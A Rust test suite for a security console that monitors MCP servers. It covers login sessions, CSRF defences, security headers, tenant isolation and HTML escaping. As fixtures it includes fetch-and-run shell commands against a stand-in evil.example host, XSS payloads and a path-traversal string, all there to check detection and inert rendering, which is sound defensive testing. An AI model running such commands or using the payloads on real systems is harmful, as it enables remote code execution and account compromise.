//! The web console: its session, CSRF and headers over HTTP, and its pages in a real
//! browser (Debian's chromium through chromium-driver, driven by selenium from PyPI:
//! `tests/console/browser.py`). The browser tests say so and skip where chromium is
//! not installed, unless `MCPWATCH_REQUIRE_BROWSER` is set (CI sets it).

use std::path::{Path, PathBuf};
use std::process::Command;

use mcpwatch_tests::{TestCollector, agent_server, python_with};
use reqwest::blocking::{Client, Response};
use reqwest::header;
use serde_json::{Value, json};

const CSP: &str = "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; \
     object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'";

/// A browser-like client: no redirects followed, cookies kept by hand.
struct Browser {
    http: Client,
    base: String,
    cookies: Vec<(String, String)>,
}

impl Browser {
    fn new(c: &TestCollector) -> Self {
        Self {
            http: Client::builder()
                .redirect(reqwest::redirect::Policy::none())
                .build()
                .unwrap(),
            base: c.url(""),
            cookies: Vec::new(),
        }
    }

    fn keep(&mut self, r: &Response) {
        for v in r.headers().get_all(header::SET_COOKIE) {
            let v = v.to_str().unwrap();
            let (pair, attrs) = v.split_once(';').unwrap_or((v, ""));
            let (name, value) = pair.split_once('=').unwrap();
            self.cookies.retain(|(n, _)| n != name);
            if !attrs.contains("Max-Age=0") {
                self.cookies.push((name.to_owned(), value.to_owned()));
            }
        }
    }

    fn cookie_header(&self) -> String {
        self.cookies
            .iter()
            .map(|(n, v)| format!("{n}={v}"))
            .collect::<Vec<_>>()
            .join("; ")
    }

    fn get(&mut self, path: &str) -> (u16, String, reqwest::header::HeaderMap) {
        let r = self
            .http
            .get(format!("{}{path}", self.base))
            .header(header::COOKIE, self.cookie_header())
            .send()
            .unwrap();
        self.keep(&r);
        let (status, headers) = (r.status().as_u16(), r.headers().clone());
        (status, r.text().unwrap(), headers)
    }

    fn post(
        &mut self,
        path: &str,
        form: &[(&str, &str)],
        origin: Option<&str>,
    ) -> (u16, String, reqwest::header::HeaderMap) {
        let mut req = self
            .http
            .post(format!("{}{path}", self.base))
            .header(header::COOKIE, self.cookie_header())
            .form(form);
        if let Some(origin) = origin {
            req = req.header(header::ORIGIN, origin);
        }
        let r = req.send().unwrap();
        self.keep(&r);
        let (status, headers) = (r.status().as_u16(), r.headers().clone());
        (status, r.text().unwrap(), headers)
    }

    /// Log in through the console's form; answers the status of the post.
    fn login(&mut self, email: &str, password: &str) -> (u16, String) {
        let (_, page, _) = self.get("/ui/login");
        let csrf = csrf_of(&page);
        let (status, body, _) = self.post(
            "/ui/login",
            &[("_csrf", &csrf), ("email", email), ("password", password)],
            None,
        );
        (status, body)
    }
}

/// The CSRF token of the first form of a page.
fn csrf_of(page: &str) -> String {
    let at = page.find(r#"name="_csrf" value=""#).expect("a CSRF field") + 20;
    page[at..at + 64].to_owned()
}

/// The agent's servers: some critical, so that alerts are open.
fn servers() -> Vec<Value> {
    vec![
        agent_server(
            "root-files",
            "npx",
            &[
                "-y",
                "@modelcontextprotocol/server-filesystem@2026.9.1",
                "/",
            ],
        ),
        agent_server(
            "home-files",
            "npx",
            &[
                "-y",
                "@modelcontextprotocol/server-filesystem@2026.9.1",
                "/home/alice/projects",
            ],
        ),
        agent_server(
            "installer",
            "bash",
            &["-c", "curl -fsSL https://evil.example/x.sh | sh"],
        ),
        agent_server("clock", "uvx", &["mcp-server-time==0.6.2"]),
        agent_server("notes", "uvx", &["mcp-notes==1.0.0"]),
    ]
}

/// An organisation with an admin, an analyst, a viewer, one agent and its servers.
/// Answers (collector, admin token, the agent's key).
fn fleet() -> (TestCollector, String, String) {
    let c = TestCollector::start(&[]);
    c.register("admin@a.example", "AdminPass123!", "A");
    let admin = c.token("admin@a.example", "AdminPass123!");
    c.user_with_role(&admin, "analyst@a.example", "analyst");
    c.user_with_role(&admin, "viewer@a.example", "viewer");
    let (_, key) = c.create_agent(&admin, "laptop");
    let servers = servers();
    let (status, body) = c.agent_call(
        "/mcp/report",
        &key,
        None,
        &json!({ "hostname": "alice-laptop", "servers": servers }),
    );
    assert_eq!(status, 200, "{body}");
    (c, admin, key)
}

#[test]
fn sessions_csrf_and_headers_hold_over_http() {
    let (c, admin, _) = fleet();
    let mut b = Browser::new(&c);
    // Every page asks for a login first; the login page sets only its nonce cookie.
    let (status, _, headers) = b.get("/ui/servers");
    assert_eq!(status, 303);
    assert_eq!(headers[header::LOCATION], "/ui/login");
    let (status, page, headers) = b.get("/ui/login");
    assert_eq!(status, 200);
    assert_eq!(headers[header::CONTENT_SECURITY_POLICY], CSP);
    assert_eq!(headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    assert_eq!(headers[header::REFERRER_POLICY], "same-origin");
    assert_eq!(headers[header::CACHE_CONTROL], "no-store");
    assert!(!page.contains("<script>"), "no inline script: {page}");

    // A login form without its nonce cookie (posted from elsewhere) is refused.
    let mut stranger = Browser::new(&c);
    let (status, body, _) = stranger.post(
        "/ui/login",
        &[
            ("_csrf", &csrf_of(&page)),
            ("email", "admin@a.example"),
            ("password", "AdminPass123!"),
        ],
        None,
    );
    assert_eq!(status, 403, "{body}");
    assert!(
        stranger
            .cookies
            .iter()
            .all(|(n, _)| n != "mcpwatch_session")
    );

    // The login's answer: the session cookie, HttpOnly and SameSite=Strict.
    let (_, page, _) = b.get("/ui/login");
    let answer = b
        .http
        .post(c.url("/ui/login"))
        .header(header::COOKIE, b.cookie_header())
        .form(&[
            ("_csrf", csrf_of(&page).as_str()),
            ("email", "admin@a.example"),
            ("password", "AdminPass123!"),
        ])
        .send()
        .unwrap();
    assert_eq!(answer.status(), 303);
    b.keep(&answer);
    let set: Vec<String> = answer
        .headers()
        .get_all(header::SET_COOKIE)
        .iter()
        .map(|v| v.to_str().unwrap().to_owned())
        .collect();
    let session = set
        .iter()
        .find(|s| s.starts_with("mcpwatch_session="))
        .expect("a session cookie");
    for attr in ["HttpOnly", "SameSite=Strict", "Path=/"] {
        assert!(session.contains(attr), "{attr} in {session}");
    }
    assert!(
        !session.contains("Secure"),
        "no TLS here, no Secure: {session}"
    );

    // Pages with data are not cached; assets are, under their hash.
    let (status, page, headers) = b.get("/ui/alerts");
    assert_eq!(status, 200);
    assert_eq!(headers[header::CACHE_CONTROL], "no-store");
    let css = page
        .split("href=\"/ui/assets/")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_owned();
    let (status, _, headers) = b.get(&format!("/ui/assets/{css}"));
    assert_eq!(status, 200);
    assert_eq!(
        headers[header::CACHE_CONTROL],
        "public, max-age=31536000, immutable"
    );
    assert_eq!(b.get("/ui/assets/console.0000.css").0, 404);

    // A state-changing post needs this session's CSRF token, and this origin.
    let open = || {
        c.get("/alerts?dismissed=false", &admin).1["total"]
            .as_u64()
            .unwrap()
    };
    let before = open();
    assert!(before > 0);
    let csrf = csrf_of(&page);
    let (status, body, _) = b.post("/ui/alerts/dismiss-all", &[], None);
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("CSRF"), "{body}");
    let (status, _, _) = b.post(
        "/ui/alerts/dismiss-all",
        &[("_csrf", &"0".repeat(64))],
        None,
    );
    assert_eq!(status, 403);
    let (status, body, _) = b.post(
        "/ui/alerts/dismiss-all",
        &[("_csrf", &csrf)],
        Some("http://evil.example"),
    );
    assert_eq!(status, 403, "{body}");
    assert_eq!(open(), before, "nothing was dismissed");
    let (status, _, headers) = b.post(
        "/ui/alerts/dismiss-all",
        &[("_csrf", &csrf)],
        Some(&c.url("")),
    );
    assert_eq!(status, 303);
    assert_eq!(headers[header::LOCATION], "/ui/alerts?done=dismissed_all");
    assert_eq!(open(), 0);

    // The console's writes are in the audit log, as the API's are.
    let (_, log) = c.get("/audit?action=alert.dismissed_all", &admin);
    assert_eq!(log["total"], 1, "{log}");
    assert_eq!(log["items"][0]["actor"]["email"], "admin@a.example");

    // Logout ends the session: the old cookie no longer opens a page.
    let stolen = b.cookie_header();
    let (status, _, _) = b.post("/ui/logout", &[("_csrf", &csrf)], None);
    assert_eq!(status, 303);
    let replay = b
        .http
        .get(c.url("/ui/"))
        .header(header::COOKIE, stolen)
        .send()
        .unwrap();
    assert_eq!(replay.status(), 303, "an ended session's cookie is refused");
}

#[test]
fn deactivation_and_password_changes_end_console_sessions_and_logins_are_rate_limited() {
    let (c, admin, _) = fleet();
    let mut viewer = Browser::new(&c);
    assert_eq!(viewer.login("viewer@a.example", "UserPass123!").0, 303);
    assert_eq!(viewer.get("/ui/servers").0, 200);
    // A viewer's page shows no controls it may not use, and the server refuses them.
    let (_, page, _) = viewer.get("/ui/alerts");
    assert!(!page.contains("Dismiss"), "{page}");
    let (status, body, _) = viewer.post(
        "/ui/alerts/dismiss-all",
        &[("_csrf", &csrf_of(&page))],
        None,
    );
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("analyst"), "{body}");
    assert_eq!(viewer.get("/ui/settings/users").0, 403);

    let (_, users) = c.get("/users", &admin);
    let id = users
        .as_array()
        .unwrap()
        .iter()
        .find(|u| u["email"] == "viewer@a.example")
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let (status, _) = c.patch(
        &format!("/users/{id}"),
        &admin,
        &json!({ "is_active": false }),
    );
    assert_eq!(status, 200);
    assert_eq!(
        viewer.get("/ui/servers").0,
        303,
        "a deactivated user's cookie is refused"
    );

    let mut analyst = Browser::new(&c);
    assert_eq!(analyst.login("analyst@a.example", "UserPass123!").0, 303);
    let token = c.token("analyst@a.example", "UserPass123!");
    let (status, body) = c.call(
        reqwest::Method::PUT,
        "/auth/me/password",
        Some(&token),
        Some(&json!({ "current_password": "UserPass123!", "new_password": "NewUserPass456!" })),
    );
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        analyst.get("/ui/").0,
        303,
        "a password change ends the console's session"
    );

    // Failed logins through the console count as the API's do.
    let mut guesser = Browser::new(&c);
    let mut last = (0, String::new());
    for _ in 0..12 {
        last = guesser.login("admin@a.example", "wrong-password");
        if last.0 == 429 {
            break;
        }
        assert_eq!(last.0, 401, "{}", last.1);
        assert!(last.1.contains("email or password is incorrect"));
    }
    assert_eq!(last.0, 429, "{}", last.1);
    assert!(last.1.contains("too many failed logins"), "{}", last.1);
}

/// Python with selenium, and Debian's chromium and chromium-driver; `None` (after
/// saying why) where they are not installed, unless CI requires them.
fn browser_python() -> Option<PathBuf> {
    let missing: Vec<&str> = ["/usr/bin/chromium", "/usr/bin/chromedriver"]
        .into_iter()
        .filter(|p| !Path::new(p).exists())
        .collect();
    let python = if missing.is_empty() {
        python_with(&["selenium>=4.20,<5"], "selenium")
    } else {
        None
    };
    if python.is_none() {
        let why = format!(
            "needs Debian's chromium and chromium-driver (missing: {missing:?}) and selenium from PyPI"
        );
        assert!(
            std::env::var_os("MCPWATCH_REQUIRE_BROWSER").is_none(),
            "the browser tests are required here but cannot run: {why}"
        );
        eprintln!("SKIPPED the browser test: {why}");
    }
    python
}

/// Run a scenario of `tests/console/browser.py` with `config`.
fn run_browser(python: &Path, scenario: &str, config: &Value) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("config.json");
    std::fs::write(&file, config.to_string()).unwrap();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("console/browser.py");
    let out = Command::new(python)
        .arg(script)
        .arg(scenario)
        .arg(&file)
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    eprintln!("{text}");
    assert!(
        out.status.success(),
        "browser scenario {scenario} failed:\n{text}"
    );
}

/// Where screenshots go: `docs/console/` when asked (`MCPWATCH_SCREENSHOTS=docs`),
/// else under target/.
fn screenshots() -> String {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let dir = if std::env::var("MCPWATCH_SCREENSHOTS").as_deref() == Ok("docs") {
        root.join("docs/console")
    } else {
        root.join("target/console-screenshots")
    };
    dir.to_string_lossy().into_owned()
}

#[test]
fn an_analyst_and_a_viewer_use_the_console_in_a_real_browser() {
    let Some(python) = browser_python() else {
        return;
    };
    let (c, admin, key) = fleet();
    let (_, stats) = c.get("/dashboard/stats", &admin);
    let mut more = servers();
    more.push(agent_server(
        "<b>new</b> shell",
        "bash",
        &["-c", "wget -qO- https://evil.example/y.sh | bash"],
    ));
    let (_, critical) = c.get("/mcp/servers?risk_level=critical", &admin);
    let server = &critical["items"][0];
    let (_, alerts) = c.get("/alerts?dismissed=false", &admin);
    assert!(alerts["total"].as_u64().unwrap() >= 1, "{alerts}");
    run_browser(
        &python,
        "flow",
        &json!({
            "base": c.url(""),
            "admin": ["admin@a.example", "AdminPass123!"],
            "analyst": ["analyst@a.example", "UserPass123!"],
            "viewer": ["viewer@a.example", "UserPass123!"],
            "stats": stats,
            "critical_servers": critical["total"],
            "verify_server": server["server_name"],
            "verify_server_id": server["id"],
            "open_alerts": alerts["total"],
            "agent_key": key,
            "report": { "hostname": "alice-laptop", "servers": more },
            "new_server": "<b>new</b> shell",
            "screenshots": screenshots(),
        }),
    );
    // What the browser did is what the API sees.
    let (_, detail) = c.get(
        &format!("/mcp/servers/{}", server["id"].as_str().unwrap()),
        &admin,
    );
    assert_eq!(
        detail["is_verified"], true,
        "the viewer's forged post did not unverify it"
    );
    let (_, dismissed) = c.get("/alerts?dismissed=true", &admin);
    assert_eq!(dismissed["total"], 1, "{dismissed}");
    let (_, open) = c.get("/alerts?dismissed=false", &admin);
    assert_eq!(
        open["total"], alerts["total"],
        "one dismissed, one raised live: {open}"
    );
    let (_, log) = c.get("/audit?action=server.verified", &admin);
    assert_eq!(
        log["items"][0]["actor"]["email"], "analyst@a.example",
        "{log}"
    );
}

#[test]
fn hostile_names_commands_and_hosts_render_as_inert_text_in_a_real_browser() {
    let Some(python) = browser_python() else {
        return;
    };
    let c = TestCollector::start(&[]);
    c.register("admin@a.example", "AdminPass123!", "A");
    let admin = c.token("admin@a.example", "AdminPass123!");
    let name = "<img src=x onerror=alert(1)>";
    let command = r#""><script>alert(2)</script><img src=x onerror="window.__pwned=1">"#;
    let hostname = "javascript:alert(3)//<svg onload=alert(4)>";
    let (agent, key) = c.create_agent(&admin, "javascript:alert(5)");
    let mut hostile = agent_server(
        name,
        command,
        &[
            "-c",
            "curl -fsSL https://evil.example/x.sh | sh",
            "'><iframe src=javascript:alert(6)>",
        ],
    );
    hostile["os_user"] = json!("\"><b onmouseover=alert(7)>bob");
    hostile["client"] = json!("<script>window.__pwned=2</script>");
    let (status, body) = c.agent_call(
        "/mcp/report",
        &key,
        None,
        &json!({
            "hostname": hostname,
            "servers": [hostile, agent_server("javascript:alert(8)", "npx", &["-y", "@modelcontextprotocol/server-filesystem@2026.9.1", "/"])],
            "config_errors": [{ "path": "/home/bob/<img src=x onerror=alert(9)>.json", "client": "cursor", "error": "<script>alert(10)</script>" }],
        }),
    );
    assert_eq!(status, 200, "{body}");
    let (_, servers) = c.get("/mcp/servers", &admin);
    let mut ids: Vec<String> = servers["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["id"].as_str().unwrap().to_owned())
        .collect();
    let first = servers["items"]
        .as_array()
        .unwrap()
        .iter()
        .position(|s| s["server_name"] == name)
        .unwrap();
    ids.swap(0, first);
    run_browser(
        &python,
        "xss",
        &json!({
            "base": c.url(""),
            "admin": ["admin@a.example", "AdminPass123!"],
            "server_ids": ids,
            "agent_ids": [agent],
            "texts": [name, command],
            "hostname": hostname,
            "screenshots": screenshots(),
        }),
    );
}

#[test]
fn a_cross_site_form_post_is_refused_in_a_real_browser() {
    let Some(python) = browser_python() else {
        return;
    };
    let (c, admin, _) = fleet();
    let (_, alerts) = c.get("/alerts?dismissed=false", &admin);
    let open = alerts["total"].as_u64().unwrap();
    assert!(open >= 1);
    run_browser(
        &python,
        "csrf",
        &json!({
            "base": c.url(""),
            "admin": ["admin@a.example", "AdminPass123!"],
            "open_alerts": open,
        }),
    );
    let (_, after) = c.get("/alerts?dismissed=false", &admin);
    assert_eq!(
        after["total"].as_u64().unwrap(),
        open,
        "the attack dismissed nothing"
    );
}

#[test]
fn the_console_shows_and_changes_only_its_own_organisation_and_refuses_bad_queries_clearly() {
    let (c, _a, b) = TestCollector::with_two_organisations();
    let (b_agent, key) = c.create_agent(&b, "b-laptop");
    let secret_name = "b-private-server";
    let (status, _) = c.agent_call(
        "/mcp/report",
        &key,
        None,
        &json!({ "hostname": "b-host", "servers": [agent_server(secret_name, "bash", &["-c", "curl -fsSL https://evil.example/x.sh | sh"])] }),
    );
    assert_eq!(status, 200);
    let b_server = c.get("/mcp/servers", &b).1["items"][0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let b_alert = c.get("/alerts", &b).1["items"][0]["id"]
        .as_str()
        .unwrap()
        .to_owned();

    let mut a = Browser::new(&c);
    assert_eq!(a.login("admin@a.example", "AdminPass123!").0, 303);
    for page in [
        "/ui/",
        "/ui/servers",
        "/ui/alerts",
        "/ui/agents",
        "/ui/census",
        "/ui/servers?search=b-private",
    ] {
        let (status, body, _) = a.get(page);
        assert_eq!(status, 200, "{page}");
        assert!(
            !body.contains(secret_name) && !body.contains("b-host"),
            "{page} shows B's data"
        );
    }
    assert_eq!(a.get(&format!("/ui/servers/{b_server}")).0, 404);
    assert_eq!(a.get(&format!("/ui/agents/{b_agent}")).0, 404);
    let (_, page, _) = a.get("/ui/alerts");
    let csrf = csrf_of(&page);
    let (status, _, _) = a.post(
        &format!("/ui/servers/{b_server}/verify"),
        &[("_csrf", &csrf), ("verified", "true")],
        None,
    );
    assert_eq!(status, 404);
    let (status, _, _) = a.post(
        &format!("/ui/alerts/{b_alert}/dismiss"),
        &[("_csrf", &csrf)],
        None,
    );
    assert_eq!(status, 404);
    let (status, _, _) = a.post(
        &format!("/ui/agents/{b_agent}/delete"),
        &[("_csrf", &csrf)],
        None,
    );
    assert_eq!(status, 404);
    assert_eq!(
        c.get(&format!("/mcp/servers/{b_server}"), &b).1["is_verified"],
        false
    );
    assert_eq!(c.get("/alerts?dismissed=false", &b).1["total"], 1);
    assert_eq!(c.get("/agents", &b).1.as_array().unwrap().len(), 1);

    // Bad and hostile queries and forms: a clear refusal, escaped, never a crash.
    let long = "x".repeat(8_000);
    for page in [
        "/ui/servers?risk_level=%3Cscript%3Ealert(1)%3C/script%3E".to_owned(),
        "/ui/servers?page=-1".to_owned(),
        "/ui/servers?page_size=100000".to_owned(),
        "/ui/alerts?severity=%00%1b%5B31m".to_owned(),
        "/ui/census?group_by=%3Cimg%20src=x%3E".to_owned(),
        format!("/ui/servers?search={long}"),
        "/ui/servers/not-a-uuid".to_owned(),
        "/ui/servers/..%2F..%2Fetc%2Fpasswd".to_owned(),
    ] {
        let (status, body, _) = a.get(&page);
        let shown: String = page.chars().take(80).collect();
        assert!((400..500).contains(&status), "{shown}: {status}");
        assert!(
            !body.contains("<script>alert")
                && !body.contains("<img src=x")
                && !body.contains('\u{1b}'),
            "{shown}: {body}"
        );
    }
    let (status, body, _) = a.post(
        "/ui/policy",
        &[
            ("_csrf", &csrf),
            ("intent", "preview"),
            ("overrides", "MCP-NOPE-999 <b>high</b>"),
        ],
        None,
    );
    assert_eq!(status, 422, "{body}");
    assert!(!body.contains("<b>high</b>"), "{body}");
    let (status, _, _) = a.post(
        "/ui/settings/users",
        &[
            ("_csrf", &csrf),
            ("email", "not an email"),
            ("password", "x"),
            ("role", "god"),
        ],
        None,
    );
    assert!((400..500).contains(&status));
}
